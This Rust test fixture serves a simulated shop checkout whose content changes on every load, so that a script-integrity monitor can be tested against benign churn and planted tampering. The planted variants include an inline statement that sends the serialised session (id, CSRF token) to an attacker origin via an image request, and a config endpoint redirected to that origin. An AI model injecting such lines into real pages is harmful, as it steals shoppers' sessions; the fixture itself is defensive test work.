//! A checkout that changes on every load without any code changing: the benign churn a
//! monitor must stay silent on (issue 4).
//!
//! `/volatile/checkout` on the shop origin is answered per request by [`Shop::set_dynamic`]:
//! a fresh CSP nonce (in the header and on every `<script nonce>`), CSRF token, session id and
//! timestamp in an inline script, a random cart serialised as JSON into another, cache-busting
//! query strings on the external scripts (`app.js?v=…`, `lib.js?_=<ms>`, `tag.js?cb=<hex>`),
//! independent scripts (two of whose inline identities collide) in random order, and an
//! A/B-test script present on two loads out of three. [`VolatileChange`] plants the changes
//! that must still be caught.

use super::{Origin, RecordedRequest, Resource, Shop};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

/// Path of the volatile checkout on the shop origin.
pub const VOLATILE_PATH: &str = "/volatile/checkout";

const APP_JS: &str = "(function(){var f=document.getElementById('pay-form');if(!f)return;f.addEventListener('submit',function(e){e.preventDefault();document.getElementById('status').textContent='Processing…';});})();\n";
const LIB_JS: &str = "window.fmt={money:function(v,c){return new Intl.NumberFormat('en-IE',{style:'currency',currency:c}).format(v)}};\n";
const TAG_JS: &str =
    "(function(){window.tagwell=window.tagwell||{q:[]};window.tagwell.q.push(['pageview',location.pathname]);})();\n";
const AB_JS: &str = "(function(){document.documentElement.setAttribute('data-variant','b');var b=document.getElementById('pay');if(b)b.textContent='Pay securely now';})();\n";

/// A change planted in the volatile checkout that must be reported as `altered_script`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum VolatileChange {
    /// Nothing planted: only benign churn.
    None,
    /// The `collect` endpoint in the inline `shopConfig` literal points at the attacker.
    ExfilHostInConfig,
    /// One statement appended to the inline session script (the one with nonce, CSRF token,
    /// session id and timestamp); it sends the session to the attacker.
    StatementAppendedToSession,
    /// A new call inserted in the middle of the inline cart script (whose literals are masked).
    CallInsertedInCart,
}

/// A small, fast, non-cryptographic generator (splitmix64): random enough for test churn.
struct Rng(AtomicU64);

impl Rng {
    fn new() -> Rng {
        let seed = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos() as u64).unwrap_or(7);
        Rng(AtomicU64::new(seed))
    }

    fn next(&self) -> u64 {
        let mut z = self.0.fetch_add(0x9E37_79B9_7F4A_7C15, Ordering::Relaxed).wrapping_add(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    /// `len` characters of base64url.
    fn token(&self, len: usize) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        (0..len).map(|_| ALPHABET[self.below(64) as usize] as char).collect()
    }

    fn shuffle<T>(&self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            items.swap(i, self.below(i as u64 + 1) as usize);
        }
    }
}

impl Shop {
    /// URL of the volatile checkout (served once [`Shop::serve_volatile_checkout`] was called).
    pub fn volatile_checkout_url(&self) -> String {
        self.url(Origin::Shop, VOLATILE_PATH)
    }

    /// Serves the volatile checkout and its scripts, with `change` planted (or none). Each call
    /// restarts the load counter that drives the A/B script (present unless `load % 3 == 2`).
    pub fn serve_volatile_checkout(&self, change: VolatileChange) -> String {
        let js = |body: &str| Resource::js(body);
        self.set_resource(Origin::Shop, "/volatile/static/app.js", js(APP_JS));
        self.set_resource(Origin::Shop, "/volatile/static/lib.js", js(LIB_JS));
        self.set_resource(Origin::Shop, "/volatile/static/ab-test.js", js(AB_JS));
        self.set_resource(Origin::Vendor, "/tag.js", js(TAG_JS));
        let vendor = self.base(Origin::Vendor);
        let attacker = self.base(Origin::Attacker);
        let rng = Arc::new(Rng::new());
        let loads = Arc::new(AtomicU64::new(0));
        self.set_dynamic(Origin::Shop, VOLATILE_PATH, move |_: &RecordedRequest| {
            let load = loads.fetch_add(1, Ordering::Relaxed);
            page(&rng, load, &vendor, &attacker, change)
        });
        self.volatile_checkout_url()
    }
}

fn page(rng: &Rng, load: u64, vendor: &str, attacker: &str, change: VolatileChange) -> Resource {
    let nonce = rng.token(22);
    let csrf = rng.token(32);
    let session = format!("{:016x}{:016x}", rng.next(), rng.next());
    let now_ms = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_millis()).unwrap_or(0) + u128::from(load);
    let request_id = format!(
        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
        rng.next() as u32,
        rng.below(1 << 16),
        rng.below(1 << 12),
        rng.below(1 << 12),
        rng.next() & 0xFFFF_FFFF_FFFF
    );

    let mut session_js = format!(
        "window.__session = {{ id: \"{session}\", csrf: \"{csrf}\", ts: {now_ms}, started: \"{}\", requestId: \"{request_id}\", ttl: {} }};\ndocument.querySelector('meta[name=csrf-token]').setAttribute('content', window.__session.csrf);",
        now_ms / 1000,
        1800 + rng.below(60)
    );
    if change == VolatileChange::StatementAppendedToSession {
        session_js.push_str(&format!(
            "\nnew Image().src = \"{attacker}/collect?s=\" + encodeURIComponent(JSON.stringify(window.__session));"
        ));
    }

    let products = [
        ("HP-JKT-0142-M", "Waxed canvas field jacket", 149.0),
        ("HP-BNE-0031", "Merino wool beanie", 35.0),
        ("HP-SCF-0007", "Lambswool scarf", 49.5),
        ("HP-GLV-0210-L", "Leather gloves", 65.0),
    ];
    let count = 1 + rng.below(products.len() as u64) as usize;
    let mut items = Vec::new();
    let mut subtotal = 0.0;
    for (sku, name, price) in products.iter().take(count) {
        let qty = 1 + rng.below(3);
        subtotal += price * qty as f64;
        items.push(format!("{{\"sku\":\"{sku}\",\"name\":\"{name}\",\"qty\":{qty},\"price\":{price:.2}}}"));
    }
    let cart_json = format!(
        "{{\"cartId\":\"c{}\",\"currency\":\"EUR\",\"items\":[{}],\"subtotal\":{subtotal:.2},\"updatedAt\":{now_ms}}}",
        rng.token(11),
        items.join(",")
    );
    let inserted = if change == VolatileChange::CallInsertedInCart {
        "navigator.sendBeacon(\"/api/cart-sync\", JSON.stringify(window.cart));\n"
    } else {
        ""
    };
    let cart_js = format!(
        "window.cart = {cart_json};\n{inserted}document.getElementById('cart-total').textContent = window.fmt ? window.fmt.money(window.cart.subtotal, window.cart.currency) : String(window.cart.subtotal);"
    );

    let collect = if change == VolatileChange::ExfilHostInConfig {
        format!("{attacker}/collect")
    } else {
        format!("{vendor}/collect")
    };
    let config_js = format!(
        "window.shopConfig = {{ storeCode: \"eu_en\", publishableKey: \"pk_live_{}\", collect: \"{collect}\", experiment: \"{}\", renderedAt: {now_ms} }};",
        rng.token(24),
        rng.token(8)
    );

    // Two inline tags whose first 64 skeleton characters are the same: colliding identities.
    let layer = |event: &str, extra: String| {
        format!("window.dataLayer = window.dataLayer || []; window.dataLayer.push({{ event: \"{event}\", {extra} }});")
    };
    let mut independent = vec![
        format!("<script nonce=\"{nonce}\" src=\"/volatile/static/app.js?v={}\"></script>", rng.below(1000)),
        format!("<script nonce=\"{nonce}\" src=\"/volatile/static/lib.js?_={now_ms}\"></script>"),
        format!("<script nonce=\"{nonce}\" src=\"{vendor}/tag.js?cb={:016x}\"></script>", rng.next()),
        format!(
            "<script nonce=\"{nonce}\">{}</script>",
            layer("begin_checkout", format!("value: {subtotal:.2}, ts: {now_ms}"))
        ),
        format!(
            "<script nonce=\"{nonce}\">{}</script>",
            layer("checkout_progress", format!("step: 1, session: \"{session}\", sent: {now_ms}"))
        ),
    ];
    if load % 3 != 2 {
        independent.push(format!("<script nonce=\"{nonce}\" src=\"/volatile/static/ab-test.js\"></script>"));
    }
    rng.shuffle(&mut independent);

    let body = format!(
        r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="csrf-token" content="{csrf}">
<title>Checkout (volatile) | Harbor &amp; Pine Outfitters</title>
<script nonce="{nonce}">{config_js}</script>
</head>
<body>
<h1>Checkout</h1>
<form id="pay-form" action="/volatile/place-order" method="post">
  <input type="hidden" name="csrf" value="{csrf}">
  <label>Card number <input id="cc-number" name="cardnumber" autocomplete="cc-number" inputmode="numeric"></label>
  <label>Expiry <input id="cc-exp" name="exp" autocomplete="cc-exp"></label>
  <label>CVC <input id="cc-csc" name="cvc" autocomplete="cc-csc"></label>
  <p>Total: <span id="cart-total"></span> <span id="status"></span></p>
  <button id="pay" type="submit">Pay</button>
</form>
<script nonce="{nonce}">{session_js}</script>
<script nonce="{nonce}">{cart_js}</script>
{scripts}
</body>
</html>
"#,
        scripts = independent.join("\n")
    );
    let csp = format!(
        "default-src 'self'; script-src 'self' 'nonce-{nonce}' {vendor}; img-src * data:; connect-src *; form-action 'self'; frame-ancestors 'none'; base-uri 'self'; object-src 'none'"
    );
    Resource::html(body)
        .with_header("Content-Security-Policy", &csp)
        .with_header("X-Frame-Options", "DENY")
        .with_header("X-Content-Type-Options", "nosniff")
        .with_header("Referrer-Policy", "strict-origin-when-cross-origin")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_load_differs_but_the_code_does_not() {
        let rng = Rng::new();
        let a = page(&rng, 0, "http://127.0.0.3:1", "http://127.0.0.4:1", VolatileChange::None);
        let b = page(&rng, 1, "http://127.0.0.3:1", "http://127.0.0.4:1", VolatileChange::None);
        assert_ne!(a.body, b.body);
        assert_ne!(a.header("Content-Security-Policy"), b.header("Content-Security-Policy"));
        assert!(a.body.contains("ab-test.js") && b.body.contains("ab-test.js"));
        let c = page(&rng, 2, "http://127.0.0.3:1", "http://127.0.0.4:1", VolatileChange::None);
        assert!(!c.body.contains("ab-test.js"), "the A/B script is absent on every third load");
        let d = page(&rng, 0, "http://127.0.0.3:1", "http://127.0.0.4:1", VolatileChange::ExfilHostInConfig);
        assert!(d.body.contains("collect: \"http://127.0.0.4:1/collect\""));
    }
}
